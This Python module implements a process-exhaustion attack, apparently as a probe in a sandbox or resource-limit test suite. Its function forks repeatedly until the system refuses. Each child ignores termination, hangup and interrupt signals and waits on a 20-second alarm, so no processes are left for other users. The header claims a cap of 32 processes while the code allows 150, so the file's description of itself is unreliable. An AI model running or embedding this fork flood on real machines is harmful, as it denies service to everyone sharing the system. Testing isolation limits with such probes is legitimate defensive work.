# attack: Forks until it is refused; every child stays.
# hurts: Leaves no process for anybody else.
# at most: 32 processes
# ends: returns or error
import os
import signal

from _raw import took

MOST = 150


def attack(target):
    made, why = 0, ""
    while made < MOST:
        try:
            pid = os.fork()
        except OSError as error:
            why = str(error)
            break
        if pid == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            signal.alarm(20)
            while True:
                signal.pause()
        made += 1
    return [took(made), why]
